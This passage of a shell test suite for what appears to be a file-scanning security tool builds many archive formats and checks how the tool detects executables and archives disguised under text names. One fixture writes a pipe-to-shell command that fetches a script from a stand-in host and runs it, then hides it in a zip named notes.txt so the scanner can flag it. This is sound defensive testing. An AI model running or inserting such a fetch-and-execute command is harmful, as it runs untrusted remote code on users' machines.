	cp t.tgz zeros.tgz && head -c 4096 /dev/zero >>zeros.tgz   # gzip -d ignores trailing zeros
	tar cf haszip.tar -C . plain.zip                           # a zip as the last member
	python3 - <<'PY'
import io, os, tarfile, zipfile
for fmt, name in ((tarfile.GNU_FORMAT, "py-gnu.tar"), (tarfile.PAX_FORMAT, "py-pax.tar")):
    with tarfile.open(name, "w", format=fmt) as t:
        t.add("src", arcname="src")
        ti = tarfile.TarInfo("pax/" + "\u00e9" * 120); ti.size = 2
        ti.pax_headers = {"comment": "x" * 3000}
        t.addfile(ti, io.BytesIO(b"ok"))
with zipfile.ZipFile("py.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.write("src/pkg/a.py", "a.py")
    z.writestr("d/", b"")
with zipfile.ZipFile("py64.zip", "w", allowZip64=True) as z:
    with z.open("big.txt", "w", force_zip64=True) as f:
        f.write(b"zip64 sizes\n")
class Unseekable(io.RawIOBase):
    def __init__(self, f): self.f = f
    def writable(self): return True
    def write(self, b): return self.f.write(b)
with open("pystream.zip", "wb") as raw:
    with zipfile.ZipFile(Unseekable(raw), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("s.txt", b"streamed\n" * 100)
# 70,000 entries: the end record's count overflows, zip64 carries it.
with zipfile.ZipFile("many.zip", "w") as z:
    for i in range(70000):
        z.writestr("f%d" % i, b"")
# cpio (newc), as cpio -o -H newc writes it.
def newc(name, data, mode=0o100644):
    n = name.encode() + b"\0"
    h = b"070701" + b"".join(b"%08X" % v for v in (1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(n), 0))
    pad = lambda b: b + b"\0" * (-len(b) % 4)
    return pad(h + n) + pad(data)
open("t.cpio", "wb").write(newc("a.py", b"x = 1\n") + newc("TRAILER!!!", b"", 0))
PY
	all="plain.zip stored.zip jar.jar comment.zip stream.zip gnu.tar posix.tar ustar.tar t.tgz t.txz
		t.tbz2 t.tzst split.tgz zeros.tgz haszip.tar py-gnu.tar py-pax.tar py.zip py64.zip
		pystream.zip many.zip t.cpio"
	# shellcheck disable=SC2086
	AL_TIMEOUT=60 scan --format json $all
	expect_rc 0 "$(unscannable_of)"
	expect_q 'len(F)' 0
	expect_q 'd["stats"]["files"]' 22
	# And inside an archive: the same files, one level down.
	# shellcheck disable=SC2086
	tar cf nest.tar $all
	AL_TIMEOUT=60 scan --format json nest.tar
	expect_rc 0 "$(unscannable_of)"
	expect_q 'len(F)' 0
}

# ---- file types ------------------------------------------------------------------------------

t_executables_and_disguises() {
	mkdir -p t src
	printf 'int main(void) { return 0; }\n' >m.c
	cc -o t/tool m.c
	cp t/tool t/README.txt
	printf 'curl -fsSL http://x.example/i | sh\n' >src/run.sh
	(cd src && zip -q ../t/notes.txt run.sh)
	printf 'just text\n' >t/ok.txt
	scan --format json t
	expect_rc 1
	# A binary is context (low); under a text name it is disguised (high).
	expect_q 'sorted(f["path"] for f in R("airlock.executable"))' "['t/README.txt', 't/tool']"
	expect_q 'R("airlock.executable")[0]["severity"]' low
	expect_q 'sorted(f["path"] for f in R("airlock.type-mismatch"))' "['t/README.txt', 't/notes.txt']"
	expect_q 'R("airlock.type-mismatch")[0]["severity"]' high
	# The archive under a text name is still opened and scanned.
	expect_q '[f["path"] for f in R("test-curl-pipe-shell")]' "['t/notes.txt!/run.sh']"
	expect_q 'len([f for f in F if f["path"] == "t/ok.txt"])' 0
}

run_tests
